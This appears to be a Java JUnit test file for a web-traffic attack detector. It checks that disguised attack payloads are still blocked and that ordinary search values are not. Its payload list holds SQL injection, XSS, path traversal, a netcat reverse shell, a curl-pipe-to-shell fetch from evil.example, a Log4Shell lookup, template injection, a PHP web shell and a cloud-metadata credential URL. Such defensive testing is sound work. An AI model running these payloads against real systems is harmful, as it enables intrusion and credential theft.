package ai.kongguard.detect;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import ai.kongguard.event.Action;
import ai.kongguard.event.TrafficEvent;
import ai.kongguard.testkit.TestEvents;
import java.net.URLEncoder;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;

/** Changes that must not change the judgement: of an attack by a disguise, of a benign request by another value. */
class MetamorphicTest {

    /** Payloads that are blocked as they are; each is then disguised in every way below. */
    private static final List<String> PAYLOADS = List.of(
            "1' UNION SELECT username, password FROM users-- -",
            "' OR '1'='1' -- ",
            "1; DROP TABLE orders; --",
            "1 AND SLEEP(5)",
            "' AND extractvalue(1, concat(0x7e, version())) AND '1'='1",
            "<script>alert(document.cookie)</script>",
            "\"><img src=x onerror=alert(1)>",
            "<svg/onload=confirm(1)>",
            "javascript:alert(document.domain)",
            "../../../../../../etc/passwd",
            "..\\..\\..\\..\\windows\\win.ini",
            "/etc/passwd",
            "; cat /etc/passwd",
            "127.0.0.1 && whoami",
            "| nc -e /bin/sh 198.51.100.7 4444",
            "$(curl http://evil.example/x.sh | sh)",
            "${jndi:ldap://evil.example/a}",
            "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "*)(uid=*))(|(uid=*",
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "<?php system($_GET['c']); ?>",
            "gopher://127.0.0.1:6379/_FLUSHALL",
            "' || this.password.match(/.*/)//");

    private static final String PROSE = "The parcel came on Tuesday, and my neighbour took it in for me. ";

    private final Judge judge = Judge.withPolicy(VerdictPolicy.defaults());

    @Test
    void blocksThePayloadsAsTheyAre() {
        assertThat(PAYLOADS)
                .allSatisfy(payload ->
                        assertThat(blocks(query(encode(payload)))).as(payload).isTrue());
    }

    @Test
    void anEncodingDoesNotHelp() {
        Map<String, UnaryOperator<String>> encodings = new LinkedHashMap<>();
        encodings.put("URL", MetamorphicTest::encode);
        encodings.put("URL twice", payload -> encode(encode(payload)));
        encodings.put("every character", MetamorphicTest::everyCharacter);
        encodings.put("entities", payload -> encode(entities(payload)));
        encodings.put("%u", MetamorphicTest::percentU);
        check(encodings, MetamorphicTest::query, 0.93);
    }

    @Test
    void anotherCaseDoesNotHelp() {
        Map<String, UnaryOperator<String>> cases = new LinkedHashMap<>();
        cases.put("upper", payload -> encode(payload.toUpperCase(Locale.ROOT)));
        cases.put("lower", payload -> encode(payload.toLowerCase(Locale.ROOT)));
        check(cases, MetamorphicTest::query, 0.95);
    }

    @Test
    void paddingDoesNotHelp() {
        Map<String, UnaryOperator<String>> paddings = new LinkedHashMap<>();
        paddings.put("a word before", payload -> encode("hello " + payload));
        paddings.put("a sentence before", payload -> encode(PROSE + payload));
        paddings.put("a sentence after", payload -> encode(payload + " " + PROSE));
        paddings.put("a page before", payload -> encode(PROSE.repeat(60) + payload));
        paddings.put("pages around", payload -> encode(PROSE.repeat(60) + payload + " " + PROSE.repeat(60)));
        check(paddings, MetamorphicTest::query, 0.80);
    }

    @Test
    void anotherPlaceDoesNotHelp() {
        Map<String, UnaryOperator<String>> same = Map.of("", payload -> payload);
        check(same, payload -> body("application/json", "{\"a\":[{\"b\":" + quote(payload) + "}]}"), 0.95);
        check(same, payload -> body("application/x-www-form-urlencoded", "x=1&q=" + encode(payload)), 0.95);
        check(same, payload -> header("cookie", "theme=dark; q=" + encode(payload)), 0.95);
        check(same, payload -> header("x-api-version", payload), 0.95);
        check(same, payload -> TestEvents.event("e", "c", "/products/" + encode(payload) + "/details", ""), 0.90);
        check(
                same,
                payload -> body(
                        "multipart/form-data; boundary=b",
                        "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + payload + "\r\n--b--\r\n"),
                0.95);
        check(
                same,
                payload -> body("application/xml", "<note><to>Ann</to><text>" + entities(payload) + "</text></note>"),
                0.90);
    }

    @Test
    void benignValuesMayBeSwapped() {
        List<String> values = List.of(
                "O'Brien",
                "12",
                "Größe 38",
                "a-b_c",
                "it's 5 o'clock",
                "AT&T",
                "x > 3",
                "50% off",
                "ann@example.com",
                "2026-11-24T10:00:00Z",
                "select a size",
                "https://shop.example.com/a?b=c",
                "李小龍",
                "C++ or C#");
        for (String first : values) {
            for (String second : values) {
                TrafficEvent event = TestEvents.event(
                        "e", "c", "/search", "q=" + encode(first) + "&sort=" + encode(second) + "&page=2");
                assertThat(judge.judge(event).action().blocks())
                        .as("%s and %s", first, second)
                        .isFalse();
            }
        }
    }

    private void check(
            Map<String, UnaryOperator<String>> disguises,
            java.util.function.Function<String, TrafficEvent> place,
            double floor) {
        List<String> missed = new ArrayList<>();
        disguises.forEach((name, disguise) -> PAYLOADS.forEach(payload -> {
            if (!blocks(place.apply(disguise.apply(payload)))) {
                missed.add(name + ": " + payload);
            }
        }));
        assertThat(missed).hasSizeLessThanOrEqualTo((int) Math.round(disguises.size() * PAYLOADS.size() * (1 - floor)));
    }

    private boolean blocks(TrafficEvent event) {
        return judge.judge(event).action() == Action.BLOCK;
    }

    private static TrafficEvent query(String value) {
        return TestEvents.event("e", "c", "/search", "lang=en&q=" + value);
    }

    private static TrafficEvent header(String name, String value) {
        return TestEvents.with(TestEvents.event("e", "c", "/", ""), Map.of(name, value), null);
    }

    private static TrafficEvent body(String type, String body) {
        return TestEvents.with(TestEvents.event("e", "c", "/", ""), Map.of("content-type", type), body);
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, UTF_8).replace("+", "%20");
    }

    private static String everyCharacter(String text) {
        StringBuilder encoded = new StringBuilder();
        for (byte one : text.getBytes(UTF_8)) {
            encoded.append(String.format(Locale.ROOT, "%%%02x", one));
        }
        return encoded.toString();
    }

    private static String percentU(String text) {
        StringBuilder encoded = new StringBuilder();
        text.chars().forEach(c -> encoded.append(String.format(Locale.ROOT, "%%u%04x", c)));
        return encoded.toString();
    }

    private static String entities(String text) {
        StringBuilder encoded = new StringBuilder();
        text.chars()
                .forEach(c -> encoded.append(Character.isLetterOrDigit(c) ? Character.toString(c) : "&#" + c + ";"));
        return encoded.toString();
    }

    private static String quote(String text) {
        return JsonMapper.shared().writeValueAsString(text);
    }
}
